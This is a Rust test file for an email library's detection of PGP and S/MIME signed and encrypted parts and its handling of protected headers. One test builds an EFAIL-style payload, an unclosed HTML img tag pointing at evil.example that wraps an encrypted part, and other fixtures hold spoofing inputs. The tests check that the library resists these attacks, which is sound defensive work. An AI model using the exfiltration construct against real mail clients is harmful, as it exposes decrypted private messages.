//! Every way in which something is signed or encrypted, and those that only look like it.

use super::*;

const SIGNED: &str = "From: a@x\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n\
    --s\r\nContent-Type: text/plain\r\n\r\nhi\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n\
    -----BEGIN PGP SIGNATURE-----\r\n\r\nc2ln\r\n-----END PGP SIGNATURE-----\r\n--s--\r\n";

fn shown(message: &str) -> String {
    let message = Message::parse(message.as_bytes());
    let id = |index: usize| message.parts()[index].id.clone();
    let one = |sealed: &Sealed| {
        let form = match &sealed.form {
            Form::Detached { content, signature } => format!("detached {} {}", id(*content), id(*signature)),
            Form::SignedWhole => "signed".to_owned(),
            Form::Encrypted => "encrypted".to_owned(),
            Form::SignedLines(lines) => format!("signed lines {:?} {}", lines.at, lines.has_text_around),
            Form::EncryptedLines(lines) => format!("encrypted lines {:?} {}", lines.at, lines.has_text_around),
        };
        format!("{} {} {form}, not {}", sealed.scheme.name(), id(sealed.part), uncovered(&message, sealed).join("+"))
    };
    find(&message).map(|sealed| one(&sealed)).collect::<Vec<_>>().join("; ")
}

#[test]
fn what_is_signed_and_encrypted_is_found_with_what_is_not() {
    let encrypted = "Content-Type: application/pgp-encrypted\n\nVersion: 1\n--b\nContent-Type: application/octet-stream\n\nx\n--b--\n";
    let multipart = |kind: &str, parts: &str| format!("Content-Type: multipart/{kind}; boundary=b\n\n--b\n{parts}");
    let pkcs7 = |kind: &str| {
        format!("Content-Type: application/pkcs7-mime; smime-type=lies\nContent-Transfer-Encoding: base64\n\n{kind}\n")
    };
    let in_list = format!(
        "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n{}\r\n--m\r\nContent-Type: text/plain\r\n\r\nfooter\r\n--m--\r\n",
        SIGNED.strip_prefix("From: a@x\r\n").expect("a field")
    );
    for (message, wanted) in [
        (SIGNED.to_owned(), "pgp TEXT detached 1 2, not "),
        (in_list, "pgp 1 detached 1.1 1.2, not 2"),
        (SIGNED.replace("application/pgp-signature", "application/x-pkcs7-signature"), "smime TEXT detached 1 2, not "),
        (SIGNED.replace("application/pgp-signature", "application/x-moss-signature"), ""),
        (SIGNED.replace("Type: application/pgp-signature", "Type: text/plain"), "pgp TEXT detached 1 2, not 2"),
        (SIGNED.replace("-----BEGIN", "PS: pay Mallory\r\n-----BEGIN"), "pgp TEXT detached 1 2, not 2"),
        (SIGNED.replace("protocol=\"application/pgp", "protocol=\"application/pkcs7"), "smime TEXT detached 1 2, not 2"),
        (SIGNED.replace("protocol=\"application/pgp-signature\"; ", ""), "pgp TEXT detached 1 2, not "),
        (multipart("encrypted; protocol=\"application/pgp-encrypted\"", encrypted), "pgp 2 encrypted, not 1"),
        (multipart("mixed", &format!("\nspoilt\n--b\n{encrypted}")), "pgp 3 encrypted, not 1+2"),
        (multipart("signed", "\nonly one\n--b--\n"), ""),
        // ContentInfo { signedData }, { envelopedData }, { authEnvelopedData }, { compressedData }.
        (pkcs7("MIAGCSqGSIb3DQEHAqCA"), "smime 1 signed, not "),
        (pkcs7("MIAGCSqGSIb3DQEHA6CA"), "smime 1 encrypted, not "),
        (pkcs7("MIAGCyqGSIb3DQEJEAEXoIA="), "smime 1 encrypted, not "),
        (pkcs7("MIAGCyqGSIb3DQEJEAEJoIA="), ""),
        (pkcs7("AAAA"), ""),
        (
            "A: b\n\nbefore\n-----BEGIN PGP SIGNED MESSAGE-----\n\nhi\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n".into(),
            "pgp 1 signed lines 7..107 true, not ",
        ),
        (
            "A: b\n\n-----BEGIN PGP SIGNED MESSAGE-----\n\nhi\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n".into(),
            "pgp 1 signed lines 0..100 false, not ",
        ),
        (
            "A: b\n\n-----BEGIN PGP SIGNED MESSAGE-----\n\nhi\n-----BEGIN PGP SIGNATURE-----\n\nx y\n-----END PGP SIGNATURE-----\n".into(),
            "pgp 1 signed lines 0..102 true, not ",
        ),
        ("A: b\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nx\r\n-----END PGP MESSAGE-----\r\n\r\n".into(), "pgp 1 encrypted lines 0..61 false, not "),
        ("A: b\n\n-----BEGIN PGP MESSAGE-----\n\nx\n".into(), ""),
        ("A: b\n\n> -----BEGIN PGP MESSAGE-----\n\nx\n> -----END PGP MESSAGE-----\n".into(), ""),
        ("Content-Type: text/html\n\n-----BEGIN PGP MESSAGE-----\n\nx\n-----END PGP MESSAGE-----\n".into(), ""),
    ] {
        assert_eq!(shown(&message), wanted, "{message}");
    }
}

#[test]
fn a_part_is_verified_in_the_form_in_which_it_was_signed() {
    for octets in [SIGNED.to_owned(), SIGNED.replace("\r\n", "\n")] {
        let message = Message::parse(octets.as_bytes());
        let part = message.part("1").expect("a part");
        assert_eq!(canonical(&message, part), b"Content-Type: text/plain\r\n\r\nhi");
    }
}

#[test]
fn a_signed_copy_of_the_header_counts_where_it_says_the_same() {
    let copy = SIGNED.replace("Type: text/plain\r\n", "Type: text/plain; hp=\"clear\"\r\nFrom: a@x\r\n");
    for (message, wanted) in [
        (SIGNED.to_owned(), false),
        (copy.clone(), true),
        (copy.replacen("From: a@x", "From: eve@x", 1), false),
        (format!("Subject: added\r\n{copy}"), false),
        (copy.replace("; hp=\"clear\"", ""), false),
    ] {
        let message = Message::parse(message.as_bytes());
        let part = message.part("1").expect("a part");
        assert_eq!(protects_header(&message, part), wanted, "{}", message.octets().escape_ascii());
    }
}

#[test]
fn nothing_of_the_message_around_an_envelope_comes_along_but_its_header_fields() {
    let source = "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n\
        <img src=\"https://evil.example/?\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\
        --b\nContent-Type: application/octet-stream\n\nx\n--b\nContent-Type: text/html\n\n\">\n--b--\n";
    let message = Message::parse(source.as_bytes());
    let sealed = find(&message).next().expect("an envelope");
    let put = |content: &str| String::from_utf8(opened(&message, &sealed, content.as_bytes())).expect("text");
    let wanted = "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nsecret\r\n";
    assert_eq!(put("Content-Type: text/plain\r\n\r\nsecret\r\n"), wanted);
    // What is no header section is text, and lines end as they do in the content.
    assert_eq!(put("secret: or not\n"), "Subject: x\nMIME-Version: 1.0\nsecret: or not\n\n");
    assert_eq!(put("the secret\n"), "Subject: x\nMIME-Version: 1.0\n\nthe secret\n");
    assert_eq!(put(""), "Subject: x\nMIME-Version: 1.0\n\n");
    // What is in lines of a text cannot become a header field.
    let lines = Sealed { form: Form::EncryptedLines(Lines { at: 0..0, has_text_around: false }), ..sealed.clone() };
    let inner = opened(&message, &lines, b"Content-Type: text/html\r\n\r\n<b>");
    assert_eq!(Message::parse(&inner).root().media.to_string(), "text/plain");
}

#[test]
fn each_header_field_of_what_was_in_an_envelope_stands_there_once() {
    let outer =
        "From: a@x\r\nSubject: ...\r\nTo: b@x\r\nContent-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n";
    let message = Message::parse(outer.as_bytes());
    let sealed = Sealed { scheme: Scheme::Pgp, part: 0, form: Form::Encrypted };
    let copy =
        "Content-Type: text/plain; protected-headers=\"v1\"\nFrom: eve@x\nSubject: a\n secret\nKeywords: k\n\nhi\n";
    for (content, wanted) in [
        (
            copy.to_owned(),
            "From: a@x\nTo: b@x\nMIME-Version: 1.0\nContent-Type: text/plain; protected-headers=\"v1\"\n\
             Subject: a\n secret\nKeywords: k\n\nhi\n",
        ),
        (
            copy.replace("; protected-headers=\"v1\"", ""),
            "From: a@x\nSubject: ...\nTo: b@x\nMIME-Version: 1.0\nContent-Type: text/plain\nKeywords: k\n\nhi\n",
        ),
    ] {
        assert_eq!(String::from_utf8_lossy(&opened(&message, &sealed, content.as_bytes())), wanted);
    }
}
